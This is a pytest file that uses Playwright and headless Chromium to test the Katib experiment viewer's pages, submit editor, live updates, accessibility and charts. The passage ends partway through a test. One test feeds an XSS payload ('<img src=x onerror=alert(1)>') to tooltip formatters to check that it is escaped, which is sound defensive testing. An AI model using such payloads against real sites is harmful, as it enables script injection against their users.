"""The web viewer in a real browser: Debian's headless Chromium, driven by Playwright,
against a live `katib server` with a finished and a running experiment. Screenshots of each
page go to $KATIB_SCREENSHOTS (docs/screenshots when refreshing the README's)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
import yaml

from tests.conftest import experiment

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
if not Path(CHROMIUM).exists():
    if os.environ.get("CI"):
        raise RuntimeError("the viewer tests need Debian's chromium (apt-get install chromium); .ci/run installs it")
    pytest.skip("no chromium here (apt-get install chromium)", allow_module_level=True)
playwright = pytest.importorskip("playwright.sync_api")

ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
        "--disable-background-networking", "--disable-component-update"]
TRIAL = """
import sys, time
x, steps, pause = float(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
for i in range(steps):
    print(f"loss={(x - 0.3) ** 2 + 1.0 / (i + 1):.5f} cost={x:.5f}", flush=True)
    time.sleep(pause)
"""


def _port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _doc(name: str, trials: int, parallel: int, steps: int, pause: float) -> dict:
    doc = experiment(name=name, maxTrialCount=trials, parallelTrialCount=parallel,
                     command=["python3", "trial.py", "${trialParameters.x}", str(steps), str(pause), "${trialParameters.opt}"],
                     algorithm={"algorithmName": "random", "algorithmSettings": [{"name": "random_state", "value": "1"}]},
                     parameters=[{"name": "x", "parameterType": "double", "feasibleSpace": {"min": "0", "max": "1"}},
                                 {"name": "opt", "parameterType": "categorical", "feasibleSpace": {"list": ["sgd", "adam"]}}])
    doc["spec"]["trialTemplate"]["trialParameters"] = [{"name": "x", "reference": "x"}, {"name": "opt", "reference": "opt"}]
    return doc


WORK: dict[str, Path] = {}  # the server's folder: its store is k.db


def _wait(base: str, name: str, done, timeout: float = 120) -> dict:
    """The experiment's status once ``done(status)`` holds."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        status = _call(base, "GET", f"/api/v1/namespaces/default/experiments/{name}")["status"]
        if done(status):
            return status
        time.sleep(0.3)
    raise AssertionError(f"{name}: still {status} after {timeout} s")


def _call(base: str, method: str, path: str, body: dict | None = None) -> dict:
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(base + path, data=data, method=method, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.loads(r.read() or b"null")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    work = tmp_path_factory.mktemp("viewer")
    WORK["work"] = work
    (work / "trial.py").write_text(TRIAL)
    port = _port()
    proc = subprocess.Popen([sys.executable, "-m", "katib", "server", "--db", str(work / "k.db"), "--port", str(port),
                             "--workdir", str(work), "--tick", "0.2"], stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(150):
            try:
                urllib.request.urlopen(base + "/healthz", timeout=1)
                break
            except OSError:
                time.sleep(0.1)
        finished = _doc("finished", 10, 5, 5, 0.01)
        finished["spec"]["objective"]["additionalMetricNames"] = ["cost"]  # a second metric: a Pareto front
        _call(base, "POST", "/api/v1/namespaces/default/experiments", finished)
        broken = _doc("broken", 4, 1, 1, 0.01)  # every trial fails: the experiment fails, and says why
        broken["spec"]["maxFailedTrialCount"] = 1
        broken["spec"]["trialTemplate"]["trialSpec"]["spec"]["template"]["spec"]["containers"][0]["command"] = [
            "python3", "-c", "import sys; sys.exit('CUDA out of memory')", "${trialParameters.x}", "${trialParameters.opt}"]
        _call(base, "POST", "/api/v1/namespaces/default/experiments", broken)
        for name in ("finished", "broken"):
            _wait(base, name, lambda s: s.get("completionTime"))
        _call(base, "POST", "/api/v1/namespaces/default/experiments", _doc("running", 16, 2, 10, 0.4))
        yield base
    finally:
        proc.terminate()
        proc.wait(30)


@pytest.fixture(scope="module")
def browser():
    with playwright.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    pg = context.new_page()
    errors: list[str] = []
    pg.on("pageerror", lambda e: errors.append(str(e)))
    yield pg
    context.close()
    assert errors == []  # no script error on any page


def shot(page, name: str, full_page: bool = True) -> None:
    folder = Path(os.environ.get("KATIB_SCREENSHOTS") or "/tmp/katib-screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.png"
    page.screenshot(path=str(path), full_page=full_page)
    if os.environ.get("KATIB_SCREENSHOTS"):  # for docs/: 256 colours, a third of the bytes
        from PIL import Image

        with Image.open(path) as img:
            small = img.convert("RGB").quantize(256)
        small.save(path, optimize=True)


def ready(page) -> None:
    page.wait_for_function("window.__katibReady === true", timeout=15000)


def follow(page, selector: str) -> None:
    """Click a link to another page of the viewer and wait until that page is ready."""
    page.evaluate("window.__katibReady = false")
    page.click(selector)
    ready(page)


def test_list_experiment_trial(server, page):
    page.goto(server + "/")
    ready(page)
    rows = page.locator("#experiments tbody tr")
    assert rows.count() == 3
    finished = page.locator("#experiments tbody tr[data-name=finished]")
    assert "Succeeded" in finished.inner_text() and "ExperimentMaxTrialsReached" in finished.inner_text()
    assert "0 / 10 / 0 / 0" in finished.inner_text()
    assert "Running" in page.locator("#experiments tbody tr[data-name=running]").inner_text()
    page.fill("#filter", "runn")
    assert rows.count() == 1
    page.fill("#filter", "")
    shot(page, "experiments")

    follow(page, "#experiments a:text-is('finished')")
    assert page.inner_text("#count") == "10 of 10"
    best = page.inner_text("#best")
    assert "Best trial" in best and "finished-" in best and "loss" in best
    assert "(min; latest " in best  # the value minimizing's default strategy picks, with the others beside it
    assert page.locator("#history canvas").count() >= 1 and page.locator("#parallel canvas").count() >= 1
    header = page.locator("#trials thead th").all_inner_texts()
    assert header[:4] == ["Trial", "State", "x", "opt"] and "loss" in header
    # Sorting by the objective puts the smallest first.
    page.click("#trials thead th[data-k='m:loss']")
    values = [float(v) for v in page.locator("#trials tbody tr td:nth-child(5)").all_inner_texts()]
    assert values == sorted(values)
    shot(page, "experiment")

    # Brush the parallel coordinates: drag along the objective's axis over its lower half.
    box = page.locator("#parallel").bounding_box()
    axis_x = box["x"] + box["width"] - 80  # the last axis (grid right: 80)
    top, bottom = box["y"] + 40, box["y"] + box["height"] - 30
    page.mouse.move(axis_x, top + (bottom - top) * 0.5)
    page.mouse.down()
    page.mouse.move(axis_x, bottom - 2, steps=8)
    page.mouse.up()
    page.wait_for_function("!document.querySelector('#count').textContent.startsWith('10 of')", timeout=5000)
    shown = int(page.inner_text("#count").split(" of ")[0])
    shot(page, "experiment-brushed")
    assert 0 < shown < 10
    # The table keeps exactly the trials inside the brushed band of the axis: a run of the
    # sorted objective values, no gaps.
    kept = [float(v) for v in page.locator("#trials tbody tr td:nth-child(5)").all_inner_texts()]
    assert len(kept) == shown
    start = values.index(kept[0])
    assert values[start:start + shown] == kept
    shot(page, "experiment-brushed")
    page.click("#clear-brush")
    assert page.inner_text("#count") == "10 of 10"

    for tab in ("importance", "curves", "yaml"):
        page.click(f"#tabs [data-tab={tab}]")
    page.click("#tabs [data-tab=importance]")
    page.wait_for_function("document.querySelectorAll('#slices .chart').length === 2")
    page.click("#tabs [data-tab=curves]")
    assert "10 trials shown" in page.inner_text("#curves-note")
    page.click("#tabs [data-tab=yaml]")
    page.wait_for_function("document.querySelector('#yaml').textContent.includes('objectiveMetricName: loss')")
    page.click("#tabs [data-tab=trials]")

    follow(page, "#trials tbody tr:first-child a")
    assert "finished-" in page.inner_text("h1")
    assert page.locator("#params dt").all_inner_texts() == ["x", "opt"]
    conditions = page.inner_text("table")
    assert "Succeeded" in conditions and "TrialSucceeded" in conditions
    page.wait_for_function("document.querySelector('#log').textContent.includes('loss=')")
    assert len(page.inner_text("#log").strip().splitlines()) == 5
    assert page.locator("#series canvas").count() >= 1
    shot(page, "trial")


def test_a_running_experiment_updates_live(server, page):
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(server + "/#/e/default/running")
    ready(page)
    assert "Running" in page.inner_text("#subtitle")
    # Trials finish every few seconds: the page follows (server-sent events) without a reload.
    done = page.evaluate("document.querySelector('#subtitle').textContent.match(/(\\d+) succeeded/)[1]")
    page.wait_for_function(f"document.querySelector('#subtitle').textContent.match(/(\\d+) succeeded/)[1] !== '{done}'",
                           timeout=30000)
    assert page.locator("#trials tbody tr").count() >= 3
    # Catching up fetched only what changed, not the whole experiment again.
    assert any("/summary?since=" in u for u in requests)
    # Budget editing from the page.
    page.click("#budget-edit")
    page.fill("#budget input[name=maxTrialCount]", "18")
    page.click("#budget button")
    page.wait_for_function("document.querySelector('#subtitle').textContent.includes('budget 18')", timeout=10000)
    shot(page, "experiment-running")
    page.click("#stop")
    page.wait_for_function("document.querySelector('#subtitle').textContent.includes('Stopped')", timeout=30000)
    assert page.locator("#resume").is_visible() and not page.locator("#stop").is_visible()
    page.goto(server + "/")
    ready(page)
    row = page.locator("#experiments tbody tr[data-name=running]")
    assert "Stopped" in row.inner_text()
    assert row.locator("[data-act=resume]").count() == 1 and row.locator("[data-act=stop]").count() == 0


def set_yaml(page, text: str) -> None:
    """Replace the Submit page's YAML, as typing it would."""
    page.evaluate("text => window.katibEditor.setValue(text, -1)", text)


def get_yaml(page) -> str:
    return page.evaluate("window.katibEditor.getValue()")


def marked_lines(page) -> set[int]:
    """The lines (from 1) the editor marks with an error: in its gutter, and each with the
    message shown under it."""
    page.wait_for_function("document.querySelectorAll('#editor .err-widget').length > 0", timeout=5000)
    rows = page.evaluate("window.katibEditor.session.getAnnotations().map(a => a.row)")
    assert page.locator("#editor .ace_gutter-cell.ace_error").count() >= 1 or not rows  # drawn in the gutter
    assert page.locator("#editor .err-widget").count() == len(rows)
    return {r + 1 for r in rows}


def test_submit_shows_errors_beside_the_field_then_creates(server, page):
    page.goto(server + "/#/new")
    ready(page)
    doc = _doc("submitted", 2, 2, 2, 0.01)
    broken = yaml.safe_load(yaml.safe_dump(doc))
    broken["spec"]["parameters"][0]["feasibleSpace"]["max"] = "-1"
    broken["spec"]["algorithm"]["algorithmName"] = "annealing"
    text = yaml.safe_dump(broken, sort_keys=False)
    set_yaml(page, text)
    page.wait_for_function("document.querySelectorAll('#errors li').length >= 2", timeout=10000)
    errors = page.inner_text("#errors")
    assert "spec.parameters[0].feasibleSpace.min: must not exceed max" in errors
    assert "unknown algorithm 'annealing'" in errors
    # The markers sit on the offending lines.
    lines = text.splitlines()
    marked = marked_lines(page)
    assert next(i + 1 for i, line in enumerate(lines) if "algorithmName: annealing" in line) in marked
    min_line = next(i + 1 for i, line in enumerate(lines) if line.strip().startswith("min:"))
    assert min_line in marked
    # Each message under its line; a code editor: line numbers, YAML keys coloured.
    assert "unknown algorithm 'annealing'" in page.inner_text("#editor .err-widget >> nth=-1") + page.inner_text("#editor .err-widget >> nth=0")
    assert page.locator("#editor .ace_gutter-cell").count() >= 10
    assert page.locator("#editor .ace_meta.ace_tag").count() >= 5  # keys: their own colour
    assert page.locator("#create").is_disabled()
    shot(page, "submit")

    set_yaml(page, yaml.safe_dump(doc, sort_keys=False))
    page.wait_for_function("document.querySelector('#ok').textContent.startsWith('Valid')", timeout=10000)
    follow(page, "#create")
    assert page.inner_text("#title") == "submitted"


def test_the_short_form_writes_valid_yaml(server, page):
    page.goto(server + "/#/new")
    ready(page)
    page.fill("#quick input[name=name]", "from-form")
    page.click("#quick button.primary")
    page.wait_for_function("document.querySelector('#ok').textContent.startsWith('Valid')", timeout=10000)
    assert yaml.safe_load(get_yaml(page))["metadata"]["name"] == "from-form"


def test_the_short_form_starts_as_the_yaml_and_asks_before_replacing_edits(server, page):
    """The starting YAML said tpe, 3 failures allowed and a log scale while the form said
    auto and had no such fields; Write YAML silently dropped them, and any edit."""
    page.goto(server + "/#/new")
    ready(page)
    start = yaml.safe_load(get_yaml(page))
    assert start["spec"]["algorithm"]["algorithmName"] == page.input_value("#q-algorithm") == "auto"
    assert start["spec"]["maxFailedTrialCount"] == int(page.input_value("#q-failed")) == 3
    assert start["spec"]["parameters"][0]["feasibleSpace"]["distribution"] == "logUniform"
    edited = get_yaml(page).replace("maxTrialCount: 12", "maxTrialCount: 7")
    set_yaml(page, edited)
    page.once("dialog", lambda d: d.dismiss())
    page.click("#quick button.primary")
    assert get_yaml(page) == edited  # kept: the user said no
    page.once("dialog", lambda d: d.accept())
    page.fill("#quick input[name=name]", "from-form-again")
    page.click("#quick button.primary")
    assert yaml.safe_load(get_yaml(page))["metadata"]["name"] == "from-form-again"


def test_a_text_metric_shows_its_value_alone(server, page):
    """A DARTS genotype (min and max unavailable) read "(max; latest …, min unavailable,
    max unavailable)" beside it; one value reported shows alone too, as katib run prints."""
    page.goto(server + "/")
    ready(page)
    text = page.evaluate("""() => {
      const div = document.createElement("div");
      div.innerHTML = metricText({name: "g", latest: "Genotype(x)", min: "unavailable", max: "unavailable"}, {g: "max"});
      const one = document.createElement("div");
      one.innerHTML = metricText({name: "loss", latest: "0.5", min: "0.5", max: "0.5"}, {loss: "min"});
      return [div.textContent, one.textContent];
    }""")
    assert text == ["Genotype(x)", "0.5"], text


def test_an_ended_experiment_offers_no_budget_edit_it_would_refuse(server, page):
    """Katib restarts an ended experiment only where it reached maxTrialCount and its
    resumePolicy is not Never: the page offered "Edit budget", and every edit was a 422."""
    for name in ("finished", "broken"):
        page.goto(server + f"/#/e/default/{name}")
        ready(page)
        assert not page.locator("#budget-edit").is_visible(), name
    assert "yet" not in page.inner_text("#best")  # broken: ended, with no result (not "yet")
    assert "No trial has a number for loss to plot" in page.inner_text("#history-note")  # not a blank chart
    # one Katib restarts (LongRunning, ended at maxTrialCount) still offers it
    doc = _doc("long-running", 1, 1, 1, 0.01)
    doc["spec"]["resumePolicy"] = "LongRunning"
    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
    _wait(server, "long-running", lambda s: s.get("completionTime"))
    page.goto(server + "/#/e/default/long-running")
    ready(page)
    assert page.locator("#budget-edit").is_visible()
    page.goto(server + "/")
    ready(page)  # the list grows with the page: no box of its own that hides rows
    assert page.evaluate("getComputedStyle(document.querySelector('#experiments').parentElement).maxHeight") == "none"


# -- the daily experience (issue 15) -------------------------------------------------------


def test_failures_say_why_and_only_what_works_is_offered(server, page):
    page.goto(server + "/")
    ready(page)
    broken = page.locator("#experiments tbody tr[data-name=broken]")
    text = broken.inner_text()
    assert "Failed" in text and "max failed count has reached" in text  # the condition's message
    assert "last failure: broken-" in text and "CUDA out of memory" in text  # and the trial that failed last
    finished = page.locator("#experiments tbody tr[data-name=finished]")
    # Progress against the budget: trials ended of maxTrialCount.
    bar = finished.locator("progress")
    assert bar.get_attribute("value") == "10" and bar.get_attribute("max") == "10"
    # Resume on an ended experiment always fails: it is not offered; neither is Stop.
    for row in (broken, finished):
        assert row.locator("[data-act=resume]").count() == 0 and row.locator("[data-act=stop]").count() == 0
        assert row.locator("[data-act=delete]").count() == 1

    follow(page, "#experiments a:text-is('broken')")
    failure = page.locator("#failure")
    assert failure.is_visible()
    assert "max failed count has reached" in failure.inner_text() and "CUDA out of memory" in failure.inner_text()
    assert not page.locator("#resume").is_visible() and not page.locator("#stop").is_visible()
    shot(page, "experiment-failed")
    follow(page, "#failure a")  # the failed trial, one click away
    assert "CUDA out of memory" in page.inner_text("#conditions")


def test_a_running_trial_page_follows_its_metrics(server, page):
    _call(server, "POST", "/api/v1/namespaces/default/experiments", _doc("slow", 1, 1, 40, 0.25))
    try:
        deadline = time.time() + 60
        reports: list = []
        while time.time() < deadline and not reports:
            trials = _call(server, "GET", "/api/v1/namespaces/default/experiments/slow/trials")["items"]
            if trials:
                name = trials[0]["metadata"]["name"]
                reports = _call(server, "GET", f"/api/v1/namespaces/default/trials/{name}/observations")["metricLogs"]
            time.sleep(0.2)
        assert reports and trials[0]["status"]["conditions"][-1]["type"] == "Running"
        page.goto(server + f"/#/t/default/{name}")
        ready(page)
        first = page.inner_text("#metrics")
        assert "loss" in first
        # The latest value moves while the trial runs; the page shows it without a reload.
        page.wait_for_function(f"document.querySelector('#metrics').innerText !== {json.dumps(first)}", timeout=20000)
        assert page.evaluate("window.__katibTrialRefreshes") >= 1
        # Stop this one trial from its page: it ends EarlyStopped, and the button goes.
        page.click("#stop-trial")
        page.wait_for_function("document.querySelector('#trial-state').textContent.includes('EarlyStopped')", timeout=20000)
        assert not page.locator("#stop-trial").is_visible()
    finally:
        _call(server, "DELETE", "/api/v1/namespaces/default/experiments/slow")


def test_a_failed_trial_is_retried_from_its_page(server, page, tmp_path):
    # Each x fails the first time it runs and succeeds the second.
    flaky = ("import os, sys, time; m = os.path.join(sys.argv[2], sys.argv[1]); time.sleep(1.5); "
             "ok = os.path.exists(m); open(m, 'w').close(); print('loss=' + sys.argv[1]) if ok else sys.exit('flaky')")
    doc = _doc("flaky", 4, 1, 1, 0)  # a budget with room for the retry even if the click comes late
    doc["spec"]["maxFailedTrialCount"] = 4
    doc["spec"]["trialTemplate"]["trialSpec"]["spec"]["template"]["spec"]["containers"][0]["command"] = [
        "python3", "-c", flaky, "${trialParameters.x}", str(tmp_path), "${trialParameters.opt}"]
    _call(server, "POST", "/api/v1/namespaces/default/experiments", doc)
    trials = "/api/v1/namespaces/default/experiments/flaky/trials"
    try:
        deadline = time.time() + 60
        failed: list = []
        while time.time() < deadline and not failed:
            failed = [t for t in _call(server, "GET", trials)["items"] if t["status"]["conditions"][-1]["type"] == "Failed"]
            time.sleep(0.1)
        name = failed[0]["metadata"]["name"]
        page.goto(server + f"/#/t/default/{name}")
        ready(page)
        page.click("#retry-trial")  # offered: it failed, and the experiment runs on
        page.wait_for_selector("#retry-trial", state="hidden")
        retry: list = []
        while time.time() < deadline and not retry:
            retry = [t for t in _call(server, "GET", trials)["items"] if t["metadata"]["labels"].get("katib.kubeflow.org/retry-of") == name]
            time.sleep(0.1)
        page.reload()
        ready(page)
        assert f"retried as {retry[0]['metadata']['name']}" in page.inner_text("h1 + .muted")
        assert not page.locator("#retry-trial").is_visible()  # once is enough
        follow(page, "h1 + .muted a:last-child")
        assert f"a retry of {name}" in page.inner_text("h1 + .muted")
    finally:
        _call(server, "DELETE", "/api/v1/namespaces/default/experiments/flaky")


def test_importance_says_it_is_computing(server, page):
    held = []
    page.route("**/importance", lambda route: held.append(route))
    page.goto(server + "/#/e/default/finished")
    ready(page)
    page.click("#tabs [data-tab=importance]")
    page.wait_for_function("document.querySelector('#importance-state').textContent.includes('Computing')", timeout=5000)
    assert page.locator("#importance-state").is_visible()
    for _ in range(50):
        if held:
            break
        page.wait_for_timeout(100)
    held[0].continue_()
    page.wait_for_function("document.querySelector('#importance-state').textContent === ''", timeout=20000)
    assert page.locator("#importance canvas").count() >= 1


def test_the_short_form_by_default_makes_an_experiment_that_works(server, page):
    page.goto(server + "/#/new")
    ready(page)
    page.fill("#quick input[name=name]", "default-form")
    page.click("#quick button.primary")
    page.wait_for_function("document.querySelector('#ok').textContent.startsWith('Valid')", timeout=10000)
    text = get_yaml(page)
    # The server's own check: the YAML is a valid experiment.
    req = urllib.request.Request(server + "/api/v1/namespaces/default/experiments?dryRun=true", data=text.encode(),
                                 method="POST", headers={"Content-Type": "application/yaml"})
    with urllib.request.urlopen(req, timeout=30) as r:
        assert r.status in (200, 201)
    # And it runs as written: its trials report the objective (the server's folder has no train.py).
    follow(page, "#create")
    try:
        status = _wait(server, "default-form", lambda s: s.get("trialsSucceeded", 0) + s.get("trialsFailed", 0)
                       + s.get("trialMetricsUnavailable", 0) >= 1, timeout=60)
        assert status.get("trialsSucceeded", 0) >= 1, status
    finally:
        _call(server, "DELETE", "/api/v1/namespaces/default/experiments/default-form")


def test_a_check_answered_after_leaving_the_submit_page_paints_nothing(server, page):
    # The server's answer to the YAML check comes after the user has gone to another page:
    # it must not paint the Submit page's fields, which are gone (a script error before),
    # nor replace the page now shown.
    held: list = []
    hold = {"on": False}
    page.route("**/experiments?dryRun=true", lambda route: held.append(route) if hold["on"] else route.continue_())
    page.goto(server + "/#/new")
    ready(page)
    hold["on"] = True
    page.fill("#quick input[name=name]", "left-behind")
    page.click("#quick button.primary")  # writes the YAML: a check 350 ms later, held
    page.wait_for_timeout(600)
    assert held
    page.evaluate("window.__katibReady = false; location.hash = '#/'")
    ready(page)
    for route in held:
        route.continue_()
    page.wait_for_timeout(500)  # the answers arrive; the page fixture asserts no script error
    assert page.locator("#experiments").is_visible()


def test_a_taken_name_disables_create_and_says_so(server, page):
    page.goto(server + "/#/new")
    ready(page)
    text = yaml.safe_dump(_doc("finished", 2, 2, 2, 0.01), sort_keys=False)
    set_yaml(page, text)
    page.wait_for_function("document.querySelector('#errors').textContent.includes('already exists')", timeout=10000)
    assert page.locator("#create").is_disabled()
    message = page.inner_text("#errors li")
    assert message.startswith("metadata.name: ") and "choose another name" in message
    name_line = next(i + 1 for i, line in enumerate(text.splitlines()) if line.strip() == "name: finished")
    assert name_line in marked_lines(page)
    set_yaml(page, text.replace("name: finished", "name: finished-2"))
    page.wait_for_function("document.querySelector('#ok').textContent.startsWith('Valid')", timeout=10000)
    assert not page.locator("#create").is_disabled()


def test_the_cli_and_the_viewer_agree_while_katib_run_runs_and_after_stop(server, page):
    """An experiment a `katib run` drives from another process: Running on both screens while
    it runs; after `katib stop`, Stopped on both, and the viewer offers Resume."""
    work = WORK["work"]
    db = str(work / "k.db")
    (work / "cli.yaml").write_text(yaml.safe_dump(_doc("from-cli", 6, 1, 20, 0.3)))
    katib = [sys.executable, "-m", "katib"]
    proc = subprocess.Popen([*katib, "run", str(work / "cli.yaml"), "--db", db, "--tick", "0.2"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        while " Running " not in proc.stdout.readline():
            assert proc.poll() is None
        page.goto(server + "/")
        ready(page)
        row = page.locator("#experiments tbody tr[data-name=from-cli]")
        page.wait_for_function("document.querySelector('#experiments tr[data-name=from-cli]')", timeout=10000)
        assert "Running" in row.inner_text() and "Stopped" not in row.inner_text()
        assert row.locator("[data-act=resume]").count() == 0  # a live controller runs it: Resume would fail
        cli = subprocess.run([*katib, "get", "experiments", "--db", db], capture_output=True, text=True, timeout=60)
        line = next(x for x in cli.stdout.splitlines() if "from-cli" in x)
        assert "Running" in line

        stopped = subprocess.run([*katib, "stop", "from-cli", "--db", db], capture_output=True, text=True, timeout=120)
        assert stopped.returncode == 0, stopped.stderr
        assert proc.wait(60) == 130
        page.wait_for_function(
            "document.querySelector('#experiments tr[data-name=from-cli]').textContent.includes('Stopped')", timeout=10000)
        assert row.locator("[data-act=resume]").count() == 1
        cli = subprocess.run([*katib, "get", "experiments", "--db", db], capture_output=True, text=True, timeout=60)
        assert "Stopped" in next(x for x in cli.stdout.splitlines() if "from-cli" in x)
    finally:
        if proc.poll() is None:
            proc.kill()
        _call(server, "DELETE", "/api/v1/namespaces/default/experiments/from-cli")


AXE = Path(__file__).resolve().parents[2] / "api" / "static" / "vendor" / "axe-core-4.14.1.min.js"


def serious_violations(page) -> list[str]:
    """axe-core's serious and critical accessibility violations on the page as it is now."""
    if not page.evaluate("typeof window.axe !== 'undefined'"):
        page.add_script_tag(path=str(AXE))
    return page.evaluate("""async () => (await axe.run(document, { resultTypes: ["violations"] })).violations
        .filter(v => v.impact === "serious" || v.impact === "critical")
        .map(v => `${v.id} (${v.impact}): ${v.help}: ` + v.nodes.slice(0, 8).map(n => n.target.join(" ")).join(", "))""")


def test_every_page_passes_axe_and_works_from_the_keyboard(server, page):
    found: dict[str, list[str]] = {}
    page.goto(server + "/")
    ready(page)
    found["experiments"] = serious_violations(page)
    # Sorting from the keyboard: focus a column's header, press Enter.
    page.focus("#experiments th[data-k=name] button")
    page.keyboard.press("Enter")
    assert page.get_attribute("#experiments th[data-k=name]", "aria-sort") == "ascending"
    page.keyboard.press("Enter")
    assert page.get_attribute("#experiments th[data-k=name]", "aria-sort") == "descending"

    page.goto(server + "/#/new")
    ready(page)
    found["submit"] = serious_violations(page)
    assert page.get_by_label("Name", exact=True).input_value() == "my-experiment"  # labels name the form's fields

    page.goto(server + "/#/e/default/finished")
    ready(page)
    found["experiment"] = serious_violations(page)
    # Whole trials on the history's axis, never 2.5.
    ticks = page.evaluate("""echarts.getInstanceByDom(document.querySelector('#history')).getModel()
        .getComponent('xAxis', 0).axis.scale.getTicks().map(t => t.value)""")
    assert ticks and all(float(t).is_integer() for t in ticks)
    # Tabs: ARIA roles, and the arrow keys move between them.
    assert page.get_attribute("#tabs", "role") == "tablist"
    assert page.get_attribute("#tab-trials", "aria-selected") == "true"
    page.focus("#tab-trials")
    page.keyboard.press("ArrowRight")
    assert page.get_attribute("#tab-importance", "aria-selected") == "true"
    assert page.get_attribute("#tab-trials", "aria-selected") == "false"
    assert page.locator("#pane-importance").is_visible() and not page.locator("#pane-trials").is_visible()
    page.wait_for_function("document.querySelector('#importance-state').textContent === ''", timeout=20000)
    found["importance"] = serious_violations(page)
    for tab in ("curves", "yaml"):
        page.click(f"#tab-{tab}")
        found[tab] = serious_violations(page)

    page.goto(server + "/#/e/default/broken")
    ready(page)
    found["failed experiment"] = serious_violations(page)
    follow(page, "#failure a")
    found["trial"] = serious_violations(page)
    # Numbers to six significant digits, the whole value on hover.
    page.goto(server + "/#/e/default/finished")
    ready(page)
    follow(page, "#trials tbody tr:first-child a")
    x = page.get_attribute("#params dd", "title")
    assert page.inner_text("#params dd") == f"{float(x):.6g}"
    assert not any(found.values()), json.dumps({k: v for k, v in found.items() if v}, indent=1)


def option(page, selector: str) -> dict:
    """The ECharts option a chart holds now."""
    return page.evaluate(f"echarts.getInstanceByDom(document.querySelector('{selector}')).getOption()")


def test_the_plots_optuna_dashboard_has(server, page):
    """History on a log scale and against time; contour, rank, EDF and timeline; a Pareto
    front over any two metrics; every one drawn by ECharts from the page's summary."""
    page.goto(server + "/#/e/default/finished")
    ready(page)
    page.select_option("#history-y", "log")
    assert option(page, "#history")["yAxis"][0]["type"] == "log"
    page.select_option("#history-x", "time")
    history = option(page, "#history")
    assert history["xAxis"][0]["type"] == "time"
    ended = [p[0] for s in history["series"] if s["type"] == "scatter" for p in s["data"]]
    assert len(ended) == 10 and all(t > 1.6e12 for t in ended)  # milliseconds since the epoch
    # The legend's colours are the points' colours: one series per state.
    assert [s["name"] for s in history["series"]] == ["Succeeded", "best so far"]

    page.click("#tab-plots")
    assert page.input_value("#plot-x") == "x" and page.input_value("#plot-y") == "opt"
    contour = option(page, "#contour")
    heat, trials = contour["series"]
    assert heat["type"] == "heatmap" and len(heat["data"]) == 24 * 2  # x in 24 bins, opt's two categories
    assert len(trials["data"]) == 10 and contour["yAxis"][0]["data"] == ["adam", "sgd"]
    losses = sorted(p[2] for p in trials["data"])
    assert all(losses[0] - 1e-9 <= cell[2] <= losses[-1] + 1e-9 for cell in heat["data"])  # interpolated, never beyond
    rank = option(page, "#rank")["series"][0]["data"]
    assert sorted(round(p[2], 6) for p in rank) == [round(k / 9, 6) for k in range(10)]
    best = min(rank, key=lambda p: p[3])
    assert best[2] == 0  # the best trial has rank 0
    edf = option(page, "#edf")["series"][0]["data"]
    assert len(edf) == 10 and edf[-1][1] == 1 and [p[0] for p in edf] == sorted(p[0] for p in edf)
    timeline = option(page, "#timeline")["series"]
    assert sum(len(s["data"]) for s in timeline) == 10
    assert all(d["coords"][1][0] > d["coords"][0][0] for s in timeline for d in s["data"])
    low, high = page.evaluate("""echarts.getInstanceByDom(document.querySelector('#timeline')).getModel()
        .getComponent('xAxis', 0).axis.scale.getExtent()""")
    assert all(low <= d["coords"][0][0] and d["coords"][1][0] <= high for s in timeline for d in s["data"])  # in view
    found = serious_violations(page)
    shot(page, "experiment-plots")

    page.click("#tab-pareto")
    assert page.input_value("#pareto-a") == "loss" and page.input_value("#pareto-b") == "cost"
    pareto = option(page, "#pareto")["series"]
    front = pareto[1]["data"]
    points = pareto[0]["data"] + front
    assert len(points) == 10 and front
    # No point beats a front point on both metrics (both minimized), and each point off
    # the front is beaten by one on it.
    for f in front:
        assert not any(p[0] <= f[0] and p[1] <= f[1] and (p[0], p[1]) != (f[0], f[1]) for p in points)
    for p in pareto[0]["data"]:
        assert any(f[0] <= p[0] and f[1] <= p[1] for f in front)
    shot(page, "experiment-pareto")
    page.select_option("#pareto-b", "loss")
    assert "two different metrics" in page.inner_text("#pareto-note")
    assert found == [], found
    # The tooltips are HTML: the names in them are escaped (a name not a DNS label, from a
    # remote suggestion service say, must not become markup).
    evil = "<img src=x onerror=alert(1)>"
    for selector, point in (("#rank", {"value": [0, 0, 0, 1.0, evil]}), ("#contour", {"seriesType": "scatter", "value": [0, 0, 1.0, evil]}),
                            ("#timeline", {"name": evil, "data": {"coords": [[0, 0], [1000, 0]]}})):
        text = page.evaluate(f"""p => echarts.getInstanceByDom(document.querySelector('{selector}')).getOption()
            .tooltip[0].formatter(p)""", point)
        assert "<img" not in text and "&lt;img" in text, (selector, text)


WIDTHS = {"phone": 390, "tablet": 800, "desktop": 1440}
PAGES = {"experiments": ("/", ["#experiments", "#theme"]),
         "experiment": ("/#/e/default/finished", ["#history", "#tabs", "#trials", "#best"]),
         "submit": ("/#/new", ["#editor .ace_content", "#create", "#quick"])}


def overflow(page) -> int:
    """How far the page is wider than the window (0: no horizontal scrolling)."""
    return page.evaluate("document.documentElement.scrollWidth - window.innerWidth")


def test_every_width_and_dark_mode(server, browser):
    """The list, an experiment and the submit page at a phone's, a tablet's and a desktop's
    width: no horizontal scrolling, the key parts in view, axe clean; then in dark mode (the
    system's, and the toggle's), axe's contrast check included."""
    found: dict[str, list[str]] = {}
